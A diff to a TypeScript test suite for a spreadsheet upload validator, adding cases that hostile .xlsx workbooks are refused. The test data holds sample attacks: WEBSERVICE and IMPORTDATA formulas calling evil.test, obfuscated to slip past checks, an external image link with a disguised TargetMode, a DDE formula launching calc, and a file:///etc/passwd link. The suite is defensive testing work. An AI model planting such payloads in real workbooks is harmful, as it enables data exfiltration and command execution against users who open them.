@@ -36,6 +36,14 @@ const drawing = (inner: string): Change =>
   );
 const formula = (text: string): Change => edit(SHEET, '</row>', `<c r="D1"><f>${text}</f></c></row>`);
 
+const disguised = both(
+  drawing('<xdr:pic/>'),
+  set(
+    'xl/drawings/_rels/drawing1.xml.rels',
+    `<Relationships><Relationship Id="a" Type="http://x/image" Target="https://evil.test/x.png? TargetMode='Internal'" TargetMode="External"/></Relationships>`,
+  ),
+);
+
 const REFUSED: ReadonlyArray<readonly [string, Change, RegExp]> = [
   ['macros', set('xl/vbaProject.bin', 'x'), /xl\/vbaProject\.bin holds a macro/],
   [
@@ -77,6 +85,46 @@ const REFUSED: ReadonlyArray<readonly [string, Change, RegExp]> = [
   ],
   ['a link to a file', relation('hyperlink', 'file:///etc/passwd', ' TargetMode="External"'), /outside/],
   ['a part that is not known', set('xl/unknown/part.xml', '<x/>'), /not known here/],
+  ['a picture from outside that says otherwise within its address', disguised, /outside/],
+  ...(['connections', 'vbaProject', 'externalLink', 'oleObject', 'queryTable', 'control', 'chart'] as const).map(
+    (type): (typeof REFUSED)[number] => [
+      `what is a ${type} and goes by another name`,
+      both(relation(type, '../media/c.xml'), set('xl/media/c.xml', '<x/>')),
+      /Sheet Sheet holds .* \(xl\/media\/c\.xml\)/,
+    ],
+  ),
+  [
+    'a connection by the type of its content',
+    both(
+      set('xl/media/c.xml', '<x/>'),
+      edit(
+        '[Content_Types].xml',
+        '</Types>',
+        '<Override PartName="/xl/media/c.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
+      ),
+    ),
+    /a connection to data outside/,
+  ],
+  ['a web service behind a blank', formula('_xlfn.WEBSERVICE ("https://evil.test/")'), /asks outside/],
+  ['a web service behind a line break', formula('WEBSERVICE\n("https://evil.test/")'), /asks outside/],
+  ['a web service with an element within', formula('WEB<x/>SERVICE("https://evil.test/")'), /asks outside/],
+  ['data that Google asks for', formula('IMPORTDATA("https://evil.test/")'), /asks outside/],
+  ...['_xlfn.WEBSERVICE ("https://evil.test/")', 'WEB<?x?>SERVICE("https://evil.test/")', 'IMPORTXML("x","y")'].map(
+    (text): (typeof REFUSED)[number] => [
+      `a name that is ${text}`,
+      edit(
+        'xl/workbook.xml',
+        '</sheets>',
+        `</sheets><definedNames><definedName name="evil">${text}</definedName></definedNames>`,
+      ),
+      /evil: this formula asks outside/,
+    ],
+  ),
+  [
+    'merged cells that reach out of a repeated row',
+    edit(SHEET, '</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>'),
+    /Sheet Sheet, A2:A3: merged cells reach into or out of a row that is repeated/,
+  ],
   ['DDE', formula("cmd|'/C calc'!A0"), /Sheet Sheet, D1: this formula asks outside/],
   ['another workbook in a formula', formula('[1]Sheet1!A1'), /asks outside/],
   ['a web service', formula('_xlfn.WEBSERVICE("https://evil.test/"&amp;A1)'), /asks outside/],
@@ -120,7 +168,7 @@ const REFUSED: ReadonlyArray<readonly [string, Change, RegExp]> = [
   ],
   ['a tag that does not end', edit(SHEET, '<sheetData', `<x a="${'y'.repeat(1 << 20)}"/><sheetData`), /cannot be read/],
   ['no sheets', edit('xl/workbook.xml', /<sheet .*?\/>/, ''), /cannot be read/],
-  ['no workbook', (parts) => parts.delete('xl/workbook.xml'), /cannot be read/],
+  ['no workbook', (parts) => parts.delete('xl/workbook.xml'), /no \.xlsx workbook/],
   [
     'a million styles',
     edit('xl/styles.xml', /<cellXfs.*?<\/cellXfs>/s, `<cellXfs>${'<xf/>'.repeat(1_000_000)}</cellXfs>`),
@@ -157,8 +205,8 @@ const RIGHT: ReadonlyArray<readonly [string, Change]> = [
     ),
   ],
   [
-    'a whole sheet merged',
-    edit(SHEET, '</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="F1:XFD1048576"/></mergeCells>'),
+    'all below merged',
+    edit(SHEET, '</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="F3:XFD1048576"/></mergeCells>'),
   ],
   [
     'a link to the web',
@@ -255,7 +303,27 @@ describe('hostile workbooks', () => {
     ['one byte', Buffer.from('P')],
   ])('are refused: %s', async (_, file) => {
     const { status, body } = await tried(file);
-    expect([status, body.errors.file[0]]).toEqual([422, expect.stringMatching(/cannot be read/)]);
+    expect([status, body.errors.file[0]]).toEqual([422, expect.stringMatching(/is no \.xlsx workbook/)]);
+  });
+
+  it('are refused: a workbook of another format', async () => {
+    const mimetype = Buffer.from('application/vnd.oasis.opendocument.spreadsheet');
+    const file = await packed(new Map([...Object.entries({ mimetype, 'content.xml': Buffer.from('<x/>') })]));
+    expect((await tried(file)).body.errors.file).toEqual([expect.stringMatching(/save it as \.xlsx/)]);
+  });
+
+  it('are told once: a chart, with its part', async () => {
+    const chart = both(
+      drawing('<xdr:twoCellAnchor><xdr:graphicFrame/></xdr:twoCellAnchor>'),
+      set(
+        'xl/drawings/_rels/drawing1.xml.rels',
+        '<Relationships><Relationship Id="a" Type="http://x/chart" Target="../charts/chart1.xml"/></Relationships>',
+      ),
+      set('xl/charts/chart1.xml', '<c/>'),
+    );
+    expect((await tried(await changed(chart))).body.errors.file).toEqual([
+      expect.stringMatching(/Sheet Sheet holds a chart \(xl\/charts\/chart1\.xml\)/),
+    ]);
   });
 
   it('are refused: half of one, and one with other bytes in it', async () => {
